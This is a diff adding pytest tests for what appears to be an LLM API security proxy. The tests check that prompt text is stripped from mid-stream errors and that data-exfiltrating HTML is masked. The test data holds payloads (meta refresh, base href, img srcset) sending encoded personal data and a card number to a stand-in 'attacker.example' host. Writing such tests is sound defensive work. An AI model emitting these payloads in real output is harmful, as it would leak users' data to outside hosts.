@@ -177,6 +177,23 @@ async def test_a_providers_error_that_quotes_the_prompt_is_passed_on_without_it(
 
 
 @pytest.mark.parametrize("api", APIS)
+async def test_an_error_in_mid_stream_that_quotes_the_prompt_is_passed_on_without_it(desk, api):
+    token = await desk.token("plain")
+    prompt = "Never say that we are broke."
+    asked = [{"role": "user", "content": "Hello to all of you"}]
+    member = {"responses": "instructions", "messages": "system"}.get(api)
+    if member is None:
+        asked.insert(0, {"role": "system", "content": prompt})
+    more = {} if member is None else {member: prompt}
+    said = await desk.ask(token, api, "error-mid-stream", asked, stream=True, **more)
+    assert prompt in desk.reached()
+    assert prompt not in said.error
+    assert "[taken out" in said.error
+    event = await desk.finding("CANARY:strip@")
+    assert event.result.error
+
+
+@pytest.mark.parametrize("api", APIS)
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 async def test_a_secret_in_the_arguments_of_a_tool_call_does_not_reach_the_agent(desk, api, stream):
     secret = needles.token()
@@ -200,6 +217,33 @@ async def test_a_picture_that_would_carry_data_away_is_not_shown(desk, stream):
     assert away not in said.text
     assert near in said.text
     await desk.finding("MARKDOWN_IMAGE_LINK:mask@", away)
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        '<meta http-equiv=refresh content="0; {away}">',
+        '<base href="{away}"><img src="x.png">',
+        '<img srcset="a.png 1x, {away} 2x">',
+        "see {name}",
+    ],
+)
+async def test_a_page_that_would_carry_data_away_is_not_shown(desk, page):
+    name = "www.collect.attacker.example/p?d=QWRhIEV4YW1wbGUsIEMtMTAwMQ"
+    text = f"Here: {page.format(away=f'https://{name}', name=name)}."
+    said = await desk.ask(await desk.token("plain"), "chat", "crumbs", text, stream=True)
+    assert "attacker.example" not in said.text
+    assert "_LINK]" in said.text
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
+async def test_a_value_is_not_restored_in_a_link_however_long_ago_that_began(desk, stream):
+    number, token = needles.card(), await desk.token("plain")
+    text = f"<p lang='{'a ' * 5000} https://collect.attacker.example/p {number}'> for {number}"
+    said = await desk.ask(token, "chat", "say", text, stream=stream)
+    assert said.text.count(number) <= 1
+    assert f"{number}'" not in said.text
+    assert said.text.endswith(f" for {number}")
 
 
 @pytest.mark.parametrize("api", APIS)
